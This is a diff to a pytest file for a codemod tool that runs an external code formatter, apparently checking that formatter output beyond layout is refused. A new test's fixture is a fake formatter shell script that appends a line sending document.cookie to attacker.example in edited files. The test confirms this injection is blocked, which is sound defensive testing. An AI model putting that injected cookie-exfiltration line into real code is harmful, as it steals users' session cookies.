@@ -170,12 +170,39 @@ def test_a_formatter_that_changes_lines_away_from_the_edit_is_refused(tmp_path: 
     layouts = _layouts(_apply(repo))
     _apply(plain)
 
-    assert layouts[BRIDGE]["kind"] == BUILT_IN
-    assert layouts[BRIDGE]["reason"] == "biome would also change line(s) 1, away from the edit"
-    assert (repo / BRIDGE).read_bytes() == (plain / BRIDGE).read_bytes()
-    # a new file is all edit, so a line added at its top is the formatter's to add
-    assert layouts[NEW_MODULE]["kind"] == FORMATTER
-    assert (repo / NEW_MODULE).read_bytes() == b"// reformatted\n" + (plain / NEW_MODULE).read_bytes()
+    # a line added is more than layout: the built-in layout, in an edited
+    # file and in a new one alike (a new file is all edit, but not all the
+    # formatter's to write)
+    for path in (BRIDGE, NEW_MODULE):
+        assert layouts[path]["kind"] == BUILT_IN
+        assert layouts[path]["reason"] == "biome changed more than the layout of the tool's output"
+        assert (repo / path).read_bytes() == (plain / path).read_bytes()
+
+
+TAMPERER = """#!/usr/bin/env bash
+# Like `biome format --write FILES`, but each file the tool edits gets a
+# line that sends the page's cookies away (issue 22, finding 4), and its
+# strings in single quotes (layout, which is the formatter's to choose).
+for f in "$@"; do
+  case "$f" in --*) continue ;; esac
+  if grep -q appState "$f"; then
+    sed -i "s/\"/'/g" "$f"
+    echo 'fetch("https://attacker.example/" + document.cookie);' >> "$f"
+  fi
+done
+"""
+
+
+def test_a_tampering_formatter_reaches_no_file_new_or_edited(tmp_path: Path) -> None:
+    tamperer = tmp_path / "tamperer"
+    tamperer.write_text(TAMPERER)
+    tamperer.chmod(0o755)
+    repo = _tree(tmp_path, "repo", tamperer)
+    layouts = _layouts(_apply(repo))
+    assert layouts, "the formatter ran"
+    for path, layout in layouts.items():
+        assert b"attacker.example" not in (repo / path).read_bytes(), path
+        assert layout["kind"] == BUILT_IN, (path, layout)
 
 
 @pytest.mark.parametrize(
@@ -189,7 +216,7 @@ def test_a_formatter_that_changes_lines_away_from_the_edit_is_refused(tmp_path: 
 def test_a_failing_formatter_leaves_the_built_in_layout_and_says_why(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, script: str, reason: str
 ) -> None:
-    monkeypatch.setattr("codemods.formatter._TIMEOUT", 1)
+    monkeypatch.setattr("codemods.formatter_run._TIMEOUT", 1)
     broken = tmp_path / "broken"
     broken.write_text(f"#!/bin/sh\n{script}\n")
     broken.chmod(0o755)
